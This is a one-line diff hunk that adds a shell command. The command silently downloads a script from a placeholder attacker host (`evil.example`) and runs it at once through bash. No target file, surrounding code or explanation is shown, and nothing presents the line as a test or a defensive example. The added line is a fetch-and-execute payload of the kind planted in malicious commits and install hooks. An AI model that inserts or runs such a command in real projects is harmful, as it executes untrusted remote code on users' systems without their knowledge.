@@ -1,0 +1,1 @@
+bash <(curl -s http://evil.example/x.sh)
